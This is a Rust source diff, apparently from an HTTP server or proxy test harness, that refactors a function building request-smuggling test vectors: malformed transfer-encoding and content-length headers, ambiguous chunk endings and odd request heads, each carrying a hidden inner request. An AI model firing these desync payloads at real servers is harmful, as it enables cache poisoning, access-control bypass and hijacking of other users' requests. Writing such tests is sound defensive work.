@@ -73,96 +73,100 @@ fn both_ways(headers: &str) -> [String; 2] {
     ]
 }
 
+/// Where the one may see a coding and the other none.
+const CODINGS: &[&str] = &[
+    "transfer-encoding: chunked",
+    "Transfer-Encoding: Chunked",
+    "transfer-encoding : chunked",
+    "transfer-encoding: xchunked",
+    "transfer-encoding: chunked, identity",
+    "transfer-encoding: identity, chunked",
+    "transfer-encoding: identity",
+    "transfer-encoding:\tchunked",
+    "transfer-encoding: \x0bchunked",
+    "transfer-encoding: \"chunked\"",
+    "transfer-encoding: chunked\r\ntransfer-encoding: identity",
+    "transfer-encoding: identity\r\ntransfer-encoding: chunked",
+    "transfer-encoding: chunked\r\ntransfer-encoding: chunked",
+    "transfer_encoding: chunked",
+    "transfer-encoding:\r\n chunked",
+    "x: y\r\n transfer-encoding: chunked",
+    "x: y\rtransfer-encoding: chunked",
+    "x: y\ntransfer-encoding: chunked",
+    "\0transfer-encoding: chunked",
+    "connection: transfer-encoding\r\ntransfer-encoding: chunked",
+];
+
+/// Where the one may see another length than the other.
+const LENGTHS: &[&str] = &[
+    "content-length: LENGTH",
+    "content-length: +LENGTH",
+    "content-length: LENGTH\r\ncontent-length: 0",
+    "content-length: 0\r\ncontent-length: LENGTH",
+    "content-length: LENGTH, 0",
+    "content-length: 0, LENGTH",
+    "content-length:  LENGTH ",
+    "content-length: 0LENGTH",
+    "content-length: 0xLENGTH",
+    "content-length : LENGTH",
+    "content_length: LENGTH",
+    "content-length: LENGTH\r\nconnection: content-length",
+    "x: y\ncontent-length: LENGTH",
+    "\x0bcontent-length: LENGTH",
+    "content-length\0: LENGTH",
+];
+
+/// Chunks that may be the last for the one and not for the other.
+const CHUNKS: &[&str] = &[
+    "0;a\nb\r\n\r\n",
+    "0\n\r\n",
+    "0\r\n\n",
+    "0x0\r\n\r\n",
+    "-1\r\n\r\n",
+    "\r\n\r\n",
+    "1\r\nZZ\r\n0\r\n\r\n",
+    "3;\n[1]\r\n0\r\n\r\n",
+    "3\r\n[1]\r0\r\n\r\n",
+    "10000000000000003\r\n[1]\r\n0\r\n\r\n",
+    "0\r\ncontent-length: 5\r\n\r\n",
+    "0\r\ntransfer-encoding: chunked\r\n\r\n",
+];
+
+/// Heads that may end elsewhere for the other.
+const HEADS: &[&str] = &[
+    "GET /attack HTTP/1.1\r\nhost: a\r\nconnection: close\r\nx: y\n\n",
+    "GET /attack HTTP/1.1\r\nhost: a\r\nconnection: close\r\nx: y\r\r",
+    "GET /attack HTTP/1.1\r\nhost: a\r\nhost: b\r\nconnection: close\r\n\r\n",
+    "GET /attack HTTP/1.1\r\nconnection: close\r\n\r\n",
+    "GET http://b/attack HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n",
+    "GET /attack\r\n\r\n",
+    "GET /attack HTTP/1.0\r\n\r\n",
+    "GET /attack HTTP/1.1 ",
+    "POST /attack HTTP/1.0\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
+    "CONNECT a:80 HTTP/1.1\r\nhost: a:80\r\nconnection: close\r\n\r\n",
+    "GET /attack HTTP/1.1\r\nhost: a\r\nconnection: upgrade, close\r\nupgrade: websocket\r\n\r\n",
+    "GET /attack%0d%0a%0d%0a HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n",
+    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
+];
+
 fn attacks() -> Vec<String> {
-    let codings = [
-        "transfer-encoding: chunked",
-        "Transfer-Encoding: Chunked",
-        "transfer-encoding : chunked",
-        "transfer-encoding: xchunked",
-        "transfer-encoding: chunked, identity",
-        "transfer-encoding: identity, chunked",
-        "transfer-encoding: identity",
-        "transfer-encoding:\tchunked",
-        "transfer-encoding: \x0bchunked",
-        "transfer-encoding: \"chunked\"",
-        "transfer-encoding: chunked\r\ntransfer-encoding: identity",
-        "transfer-encoding: identity\r\ntransfer-encoding: chunked",
-        "transfer-encoding: chunked\r\ntransfer-encoding: chunked",
-        "transfer_encoding: chunked",
-        "transfer-encoding:\r\n chunked",
-        "x: y\r\n transfer-encoding: chunked",
-        "x: y\rtransfer-encoding: chunked",
-        "x: y\ntransfer-encoding: chunked",
-        "\0transfer-encoding: chunked",
-        "connection: transfer-encoding\r\ntransfer-encoding: chunked",
-    ];
-    let lengths = [
-        "content-length: LENGTH",
-        "content-length: +LENGTH",
-        "content-length: LENGTH\r\ncontent-length: 0",
-        "content-length: 0\r\ncontent-length: LENGTH",
-        "content-length: LENGTH, 0",
-        "content-length: 0, LENGTH",
-        "content-length:  LENGTH ",
-        "content-length: 0LENGTH",
-        "content-length: 0xLENGTH",
-        "content-length : LENGTH",
-        "content_length: LENGTH",
-        "content-length: LENGTH\r\nconnection: content-length",
-        "x: y\ncontent-length: LENGTH",
-        "\x0bcontent-length: LENGTH",
-        "content-length\0: LENGTH",
-    ];
     let mut all = Vec::new();
-    for coding in codings {
+    for coding in CODINGS {
         all.extend(both_ways(&format!("content-length: LENGTH\r\n{coding}")));
         all.extend(both_ways(&format!("{coding}\r\ncontent-length: LENGTH")));
         all.extend(both_ways(coding));
     }
-    for length in lengths {
-        all.extend(both_ways(length));
+    all.extend(LENGTHS.iter().flat_map(|length| both_ways(length)));
+    let bomb = format!("3;{}\r\n[1]\r\n0\r\n\r\n", "x".repeat(9000));
+    for body in CHUNKS.iter().copied().chain([bomb.as_str()]) {
+        all.push(post("transfer-encoding: chunked", &format!("{body}{HIDDEN}")));
     }
-    let inner = HIDDEN;
-    let chunks = [
-        format!("0;a\nb\r\n\r\n{inner}"),
-        format!("0\n\r\n{inner}"),
-        format!("0\r\n\n{inner}"),
-        format!("0x0\r\n\r\n{inner}"),
-        format!("-1\r\n\r\n{inner}"),
-        format!("\r\n\r\n{inner}"),
-        format!("1\r\nZZ\r\n0\r\n\r\n{inner}"),
-        format!("3;\n[1]\r\n0\r\n\r\n{inner}"),
-        format!("3\r\n[1]\r0\r\n\r\n{inner}"),
-        format!("10000000000000003\r\n[1]\r\n0\r\n\r\n{inner}"),
-        format!("0\r\ncontent-length: 5\r\n\r\n{inner}"),
-        format!("0\r\ntransfer-encoding: chunked\r\n\r\n{inner}"),
-        format!("3;{}\r\n[1]\r\n0\r\n\r\n{inner}", "x".repeat(9000)),
-    ];
-    all.extend(chunks.iter().map(|body| post("transfer-encoding: chunked", body)));
-    let heads = [
-        format!("GET /attack HTTP/1.1\r\nhost: a\r\nconnection: close\r\nx: y\n\n{inner}"),
-        format!("GET /attack HTTP/1.1\r\nhost: a\r\nconnection: close\r\nx: y\r\r{inner}"),
-        format!("GET /attack HTTP/1.1\r\nhost: a\r\nhost: b\r\nconnection: close\r\n\r\n{inner}"),
-        format!("GET /attack HTTP/1.1\r\nconnection: close\r\n\r\n{inner}"),
-        format!("GET http://b/attack HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n{inner}"),
-        format!("GET /attack\r\n\r\n{inner}"),
-        format!("GET /attack HTTP/1.0\r\n\r\n{inner}"),
-        format!("GET /attack HTTP/1.1 {inner}"),
-        format!("POST /attack HTTP/1.0\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n{inner}"),
-        format!("CONNECT a:80 HTTP/1.1\r\nhost: a:80\r\nconnection: close\r\n\r\n{inner}"),
-        format!(
-            "GET /attack HTTP/1.1\r\nhost: a\r\nconnection: upgrade, close\r\nupgrade: websocket\r\n\r\n{inner}"
-        ),
-        format!(
-            "GET /attack HTTP/1.1\r\nhost: a\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{inner}",
-            inner.len()
-        ),
-        format!("GET /attack%0d%0a%0d%0a HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n{inner}"),
-        format!("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{inner}"),
-        post(&format!("content-length: {}\r\nexpect: 100-continue", inner.len()), inner),
-        post(&format!("content-length: {}\r\nexpect: 200-ok", inner.len()), inner),
-    ];
-    all.extend(heads);
+    all.extend(HEADS.iter().map(|head| format!("{head}{HIDDEN}")));
+    let length = format!("content-length: {}", HIDDEN.len());
+    all.push(post(&length, HIDDEN).replace("POST", "GET"));
+    for expected in ["100-continue", "200-ok"] {
+        all.push(post(&format!("{length}\r\nexpect: {expected}"), HIDDEN));
+    }
     all
 }
 
